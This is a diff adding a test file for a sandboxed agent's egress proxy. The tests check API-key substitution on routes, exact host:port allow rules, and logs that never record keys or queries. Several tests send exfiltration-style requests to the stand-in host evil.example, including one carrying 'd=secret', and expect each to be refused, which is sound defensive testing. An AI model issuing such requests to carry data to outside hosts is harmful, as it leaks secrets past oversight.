@@ -1,0 +1,110 @@
+// The egress proxy on its own (a real unix socket, real upstreams on
+// loopback): routes add the key and drop the sandbox's, CONNECT and
+// absolute-form http go through only where a rule names host:port, and every
+// request is one log line with no header value and no body.
+import { mkdtempSync, readFileSync } from 'node:fs'
+import http from 'node:http'
+import net, { type AddressInfo } from 'node:net'
+import os from 'node:os'
+import path from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { startEgressProxy, type EgressProxy, readEgressLog, describeDenied } from '../src/sandbox/egress-proxy.js'
+import { deriveNetworkPolicy, parseEgressEntry, allowedBy } from '../src/sandbox/network-policy.js'
+
+const KEY = 'sk-egress-test-key-0123456789'
+
+/** One HTTP request over the proxy's unix socket; the raw response text. */
+function raw(socketPath: string, request: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const c = net.connect(socketPath, () => c.write(request))
+    let out = ''
+    c.on('data', (d) => {
+      out += d.toString('latin1')
+      if (request.startsWith('CONNECT') && out.includes('\r\n\r\n')) c.end()
+    })
+    c.on('end', () => resolve(out))
+    c.on('error', reject)
+  })
+}
+
+describe('egress proxy', () => {
+  let upstream: http.Server
+  let port = 0
+  const seen: { url: string; auth?: string; placeholder?: string }[] = []
+  let proxy: EgressProxy
+  let log = ''
+  beforeAll(async () => {
+    upstream = http.createServer((req, res) => {
+      seen.push({ url: req.url ?? '', auth: req.headers.authorization, placeholder: req.headers['x-api-key'] as string | undefined })
+      res.end('upstream-body\n')
+    })
+    await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()))
+    port = (upstream.address() as AddressInfo).port
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'odf-egress-test-'))
+    log = path.join(dir, 'egress.jsonl')
+    const policy = deriveNetworkPolicy({
+      providers: ['openai'],
+      upstreams: { openai: `http://127.0.0.1:${port}/v1` },
+      allow: [parseEgressEntry(`127.0.0.1:${port}`)],
+    })
+    proxy = await startEgressProxy({ socketPath: path.join(dir, 'egress.sock'), logFile: log, policy, keys: { OPENAI_API_KEY: KEY } })
+  })
+  afterAll(async () => {
+    await proxy?.close()
+    await new Promise((r) => upstream?.close(r))
+  })
+
+  it('a route forwards to its upstream with the real key, the placeholder dropped', async () => {
+    const r = await raw(
+      proxy.socketPath,
+      'POST /r/openai/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer placeholder\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}',
+    )
+    expect(r).toMatch(/^HTTP\/1.1 200/)
+    expect(seen.at(-1)).toMatchObject({ url: '/v1/chat/completions', auth: `Bearer ${KEY}` })
+  })
+
+  it('CONNECT to a host:port no rule names is refused', async () => {
+    const r = await raw(proxy.socketPath, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n')
+    expect(r).toMatch(/^HTTP\/1.1 403/)
+  })
+
+  it('absolute-form http: refused unless allowed; an allowed one reaches its host', async () => {
+    const denied = await raw(proxy.socketPath, 'GET http://evil.example:8080/x?d=secret HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n')
+    expect(denied).toMatch(/^HTTP\/1.1 403/)
+    const ok = await raw(proxy.socketPath, `GET http://127.0.0.1:${port}/ok HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`)
+    expect(ok).toMatch(/^HTTP\/1.1 200/)
+    expect(seen.at(-1)?.url).toBe('/ok')
+  })
+
+  it('an origin-form request that is no route is refused', async () => {
+    const r = await raw(proxy.socketPath, 'GET /r/nope/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
+    expect(r).toMatch(/^HTTP\/1.1 403/)
+  })
+
+  it('the log: one line each, destinations and verdicts, bytes, never a header value, a key or a query', async () => {
+    await new Promise((r) => setTimeout(r, 100))
+    const text = readFileSync(log, 'utf8')
+    expect(text).not.toContain(KEY)
+    expect(text).not.toContain('placeholder')
+    expect(text).not.toContain('secret')
+    const entries = readEgressLog(log)
+    expect(entries.map((e) => [e.kind, e.dest, e.allowed])).toEqual([
+      ['route', `127.0.0.1:${port}`, true],
+      ['connect', 'evil.example:443', false],
+      ['http', 'evil.example:8080', false],
+      ['http', `127.0.0.1:${port}`, true],
+      ['other', 'bridge', false],
+    ])
+    expect(entries[0].bytes_in).toBeGreaterThan(0)
+    expect(describeDenied(entries)).toHaveLength(3)
+  })
+
+  it('rules compare exact hosts and ports; entries are checked', () => {
+    const p = deriveNetworkPolicy({ providers: [], allow: [parseEgressEntry('registry.npmjs.org')] })
+    expect(allowedBy(p, 'registry.npmjs.org', 443)).toBeDefined()
+    expect(allowedBy(p, 'x.registry.npmjs.org', 443)).toBeUndefined()
+    expect(allowedBy(p, 'registry.npmjs.org', 80)).toBeUndefined()
+    expect(() => parseEgressEntry('*.example.com')).toThrow(/HOST\[:PORT\]/)
+    expect(() => parseEgressEntry('a.example:99999')).toThrow(/HOST\[:PORT\]/)
+  })
+})
